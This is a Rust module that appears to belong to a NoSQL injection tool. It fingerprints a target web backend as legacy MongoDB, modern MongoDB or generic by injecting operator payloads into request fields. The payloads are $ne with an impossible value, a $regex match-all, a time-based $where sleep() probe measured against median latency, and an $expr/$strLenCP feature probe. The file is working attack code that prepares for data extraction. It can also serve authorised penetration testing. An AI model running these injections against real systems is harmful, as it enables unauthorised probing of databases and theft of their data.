//! Fingerprinter (C10): classifies the backend as MongoDB (legacy or
//! modern) vs. a generic/unknown NoSQL-ish store, independent of the
//! actual extraction run.

use std::time::Instant;

use crate::engine::Engine;
use crate::http_client::HttpResponseRecord;

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Backend {
    MongoLegacy,
    MongoModern,
    Generic,
}

impl Backend {
    pub fn label(&self) -> &'static str {
        match self {
            Backend::MongoLegacy => "MongoDB (Legacy)",
            Backend::MongoModern => "MongoDB (Modern 3.6+)",
            Backend::Generic => "Generic",
        }
    }
}

const LATENCY_SAMPLES: usize = 10;

pub fn fingerprint(engine: &Engine, time_sec_override: Option<f64>) -> Backend {
    let Ok(keys) = engine.template.body.top_level_keys() else {
        return Backend::Generic;
    };
    let Some(key) = keys.first() else {
        return Backend::Generic;
    };

    if check_behavioral_mongo(engine, key) {
        return deep_inspect(engine, key);
    }
    let median_latency = measure_median_latency(engine);
    if check_timing_mongo(engine, key, median_latency, time_sec_override) {
        return deep_inspect(engine, key);
    }
    Backend::Generic
}

fn measure_median_latency(engine: &Engine) -> f64 {
    let mut samples = Vec::with_capacity(LATENCY_SAMPLES);
    for _ in 0..LATENCY_SAMPLES {
        let start = Instant::now();
        let _ = engine.send(&engine.template.body);
        samples.push(start.elapsed().as_secs_f64());
    }
    samples.sort_by(|a, b| a.partial_cmp(b).unwrap());
    samples[samples.len() / 2]
}

fn check_behavioral_mongo(engine: &Engine, key: &str) -> bool {
    let ne_body = match engine
        .template
        .body
        .with_leaf(key, ne_impossible_value())
    {
        Ok(b) => b,
        Err(_) => return false,
    };
    let regex_body = match engine.template.body.with_leaf(key, regex_match_all()) {
        Ok(b) => b,
        Err(_) => return false,
    };
    let ne_ok = engine.send(&ne_body).map(|r| is_success(engine, &r)).unwrap_or(false);
    let regex_ok = engine.send(&regex_body).map(|r| is_success(engine, &r)).unwrap_or(false);
    ne_ok && regex_ok
}

fn check_timing_mongo(engine: &Engine, key: &str, avg_latency: f64, time_sec_override: Option<f64>) -> bool {
    let sleep_s = time_sec_override.unwrap_or(2.0);
    let Ok(body) = engine.template.body.with_leaf(key, where_sleep(sleep_s)) else {
        return false;
    };
    let start = Instant::now();
    let _ = engine.send(&body);
    let elapsed = start.elapsed().as_secs_f64();
    elapsed > avg_latency + 0.8 * sleep_s
}

fn deep_inspect(engine: &Engine, key: &str) -> Backend {
    let Ok(body) = engine.template.body.with_leaf(key, modern_feature_probe()) else {
        return Backend::MongoLegacy;
    };
    match engine.send(&body) {
        Some(resp) if is_success(engine, &resp) => Backend::MongoModern,
        _ => Backend::MongoLegacy,
    }
}

fn is_success(engine: &Engine, resp: &HttpResponseRecord) -> bool {
    if resp.status == 200 && engine.baseline.status != 200 {
        return true;
    }
    (resp.body.len() as i64 - engine.baseline.body.len() as i64).abs() > 5
}

fn ne_impossible_value() -> crate::value::Value {
    let mut map = indexmap::IndexMap::new();
    map.insert("$ne".to_string(), crate::value::Value::Str("__nosql_tomcat_impossible__".to_string()));
    crate::value::Value::Object(map)
}

fn regex_match_all() -> crate::value::Value {
    let mut map = indexmap::IndexMap::new();
    map.insert("$regex".to_string(), crate::value::Value::Str(".*".to_string()));
    crate::value::Value::Object(map)
}

fn where_sleep(seconds: f64) -> crate::value::Value {
    let mut map = indexmap::IndexMap::new();
    map.insert(
        "$where".to_string(),
        crate::value::Value::Str(format!("sleep({})", (seconds * 1000.0) as u64)),
    );
    crate::value::Value::Object(map)
}

fn modern_feature_probe() -> crate::value::Value {
    let mut inner = indexmap::IndexMap::new();
    inner.insert(
        "$gt".to_string(),
        crate::value::Value::Array(vec![
            {
                let mut to_string = indexmap::IndexMap::new();
                to_string.insert("$toString".to_string(), crate::value::Value::Str("$_id".to_string()));
                let mut len = indexmap::IndexMap::new();
                len.insert("$strLenCP".to_string(), crate::value::Value::Object(to_string));
                crate::value::Value::Object(len)
            },
            crate::value::Value::Num(0.0),
        ]),
    );
    let mut outer = indexmap::IndexMap::new();
    outer.insert("$expr".to_string(), crate::value::Value::Object(inner));
    crate::value::Value::Object(outer)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn backend_labels_are_human_readable() {
        assert_eq!(Backend::MongoLegacy.label(), "MongoDB (Legacy)");
        assert_eq!(Backend::MongoModern.label(), "MongoDB (Modern 3.6+)");
        assert_eq!(Backend::Generic.label(), "Generic");
    }
}
